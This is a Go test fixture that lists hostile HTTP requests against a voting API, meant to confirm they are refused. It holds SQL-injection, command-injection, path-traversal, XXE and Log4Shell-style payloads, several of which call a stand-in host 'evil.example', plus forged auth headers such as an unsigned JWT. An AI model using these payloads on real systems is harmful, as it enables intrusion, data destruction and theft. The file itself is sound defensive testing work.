// Package hostile is what scanners and forgers send to the Public Channels API: requests as data, for tests
// at the API server, in floods, and through a proxy. Each is refused with a status of 4xx, by whoever sees it
// first.
package hostile

import (
	"encoding/json"
	"net/http"
	"net/url"
	"strings"
)

// Request is one hostile request.
type Request struct {
	// Name says what is tried, and where.
	Name   string
	Method string
	// Target is the path with its query, escaped.
	Target string
	Header http.Header
	Body   string
}

// Payloads are what is tried wherever the API reads a text: SQL as sqlmap's techniques write it (boolean,
// error, union, stacked, time, out of band), and what works against templates, shells, paths and logs.
var Payloads = []string{
	`' OR '1'='1`,
	`' OR 1=1-- -`,
	`") OR ("1"="1`,
	`1' AND SLEEP(5)-- -`,
	`1;SELECT pg_sleep(5)--`,
	`1' AND 7=(SELECT 7 FROM PG_SLEEP(5))-- -`,
	`' UNION ALL SELECT NULL,version(),NULL-- -`,
	`1 AND EXTRACTVALUE(1,CONCAT(0x5c,(SELECT user())))`,
	`'; DROP TABLE participation; --`,
	`1' AND 1=CAST((SELECT voter FROM participation LIMIT 1) AS int)-- -`,
	`'||(SELECT load_extension('x'))||'`,
	`'; COPY (SELECT '') TO PROGRAM 'id'; --`,
	`' AND LOAD_FILE('\\\\evil.example\\a')-- -`,
	`1' WAITFOR DELAY '0:0:5'--`,
	`{"$gt":""}`,
	`${jndi:ldap://evil.example/a}`,
	`{{7*7}}`,
	`<script>alert(1)</script>`,
	`$(id)`,
	"`id`",
	`../../../../etc/passwd`,
	`..%2f..%2f..%2fetc%2fpasswd`,
	"%00",
	"a\r\nSet-Cookie: a=b",
	strings.Repeat("A", 2000),
	"\u202e\u0000\ufeff",
}

// paths are what scanners look for first.
var paths = []string{
	"/v1/admin", "/v1/polls/../../../etc/passwd", "/v1/.git/config", "/v1/.env", "/v1/actuator/env", "/v1/debug/pprof/", "/v1/metrics",
	"/v1/polls/x/sessions/1", "/v1//polls//", "/v1/polls/", "/v1/graphql", "/v1/ballots/1", "/v1/verification/", "/v2/polls", "/v1/polls;a=b",
}

// forged are headers by which a client claims to be somebody, or somewhere, else.
var forged = map[string][]string{
	"Authorization": {
		"Bearer", "Bearer null", "Bearer undefined", "Basic YWRtaW46YWRtaW4=", "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9.",
		"Bearer vault:v1:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", "Digest username=admin", "Bearer a Bearer b",
	},
	"Origin":                 {"https://evil.example", "null", "https://vote.example.evil.example", "file://", "http://127.0.0.1:1"},
	"Content-Type":           {"text/plain", "multipart/form-data; boundary=x", "application/xml", "application/json; charset=utf-7", "application/json/../x"},
	"Content-Encoding":       {"gzip", "br", "identity, gzip"},
	"Sec-Fetch-Site":         {"cross-site", "same-site"},
	"X-Http-Method-Override": {"DELETE", "GET"},
}

const (
	sessions = "/v1/polls/hk-2014-06/sessions"
	session  = `{"identity":{"type":"hkid","number":"A123456(3)"},"phone":"+85291234567","challenge":"e30="}`
)

// Requests are all of them, each time the same, in the same order.
func Requests() []Request {
	var all []Request
	add := func(name, method, target, body string, header ...string) {
		h := http.Header{"Content-Type": {"application/json"}}
		for i := 0; i < len(header); i += 2 {
			h.Set(header[i], header[i+1])
		}
		all = append(all, Request{name, method, target, h, body})
	}
	for _, p := range Payloads {
		quoted := quote(p)
		add("a poll called "+p, http.MethodGet, "/v1/polls/"+url.PathEscape(p), "")
		add("turnout of "+p, http.MethodGet, "/v1/polls/"+url.PathEscape(p)+"/turnout", "")
		add("sessions of "+p, http.MethodPost, "/v1/polls/"+url.PathEscape(p)+"/sessions", session)
		add("a tile called "+p, http.MethodGet, "/v1/polls/hk-2014-06/log/tile/"+url.PathEscape(p), "")
		add("an identity of "+p, http.MethodPost, sessions, `{"identity":{"type":"hkid","number":`+quoted+`},"phone":"+85291234567","challenge":"e30="}`)
		add("a kind of identity "+p, http.MethodPost, sessions, `{"identity":{"type":`+quoted+`,"number":"A123456(3)"},"phone":"+85291234567","challenge":"e30="}`)
		add("a phone of "+p, http.MethodPost, sessions, `{"identity":{"type":"hkid","number":"A123456(3)"},"phone":`+quoted+`,"challenge":"e30="}`)
		add("a challenge of "+p, http.MethodPost, sessions, `{"identity":{"type":"hkid","number":"A123456(3)"},"phone":"+85291234567","challenge":`+quoted+`}`)
		add("a member called "+p, http.MethodPost, sessions, `{`+quoted+`:1}`)
		add("a query "+p, http.MethodPost, sessions+"?id="+url.QueryEscape(p), session)
		add("a leaf of "+p, http.MethodPost, "/v1/polls/hk-2014-06/log/proof", `{"leaf":`+quoted+`}`)
		add("a code of "+p, http.MethodPost, "/v1/polls/hk-2014-06/log/proof", `{"code":`+quoted+`}`)
		add("a ballot of "+p, http.MethodPost, "/v1/ballots", `{"sealed":`+quoted+`}`)
		if !strings.ContainsAny(p, "\r\n\x00") { // a client can't send these
			add("a token of "+p, http.MethodGet, "/v1/verification", "", "Authorization", "Bearer "+p)
			add("a key of "+p, http.MethodPost, "/v1/ballots", `{"sealed":"AAAA"}`, "Idempotency-Key", p)
			add("an agent called "+p, http.MethodPost, sessions, session, "User-Agent", p, "Referer", p, "Cookie", "session="+p, "X-Forwarded-For", p, "Accept-Language", p)
		}
	}
	for _, path := range paths {
		add("the path "+path, http.MethodGet, path, "")
	}
	for _, name := range []string{"Authorization", "Origin", "Content-Type", "Content-Encoding", "Sec-Fetch-Site", "X-Http-Method-Override"} {
		for _, value := range forged[name] {
			add(name+": "+value, http.MethodPost, sessions, session, name, value)
			add(name+" at the box: "+value, http.MethodPost, "/v1/ballots", `{"sealed":"AAAA"}`, name, value)
		}
	}
	for _, method := range []string{"PUT", "DELETE", "PATCH", "TRACE", "PROPFIND", "DEBUG"} {
		add(method, method, "/v1/ballots", "")
		add(method+" on a poll", method, "/v1/polls/hk-2014-06", "")
	}
	for _, one := range [][2]string{
		{"nothing", ""},
		{"half of it", `{"identity":`},
		{"two of them", session + session},
		{"arrays in arrays", strings.Repeat("[", 7000)},
		{"a member twice", `{"phone":"1","phone":"2"}`},
		{"a prototype", `{"__proto__":{"admin":true}}`},
		{"more than is read", `{"phone":"` + strings.Repeat("1", 9000)},
		{"XML", `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>`},
		{"UTF-16", "\xff\xfe{\x00}\x00"},
	} {
		add("a body that is "+one[0], http.MethodPost, sessions, one[1])
	}
	return all
}

// quote writes a text as JSON.
func quote(text string) string {
	quoted, err := json.Marshal(text)
	if err != nil {
		panic(err) // a string always can be
	}
	return string(quoted)
}
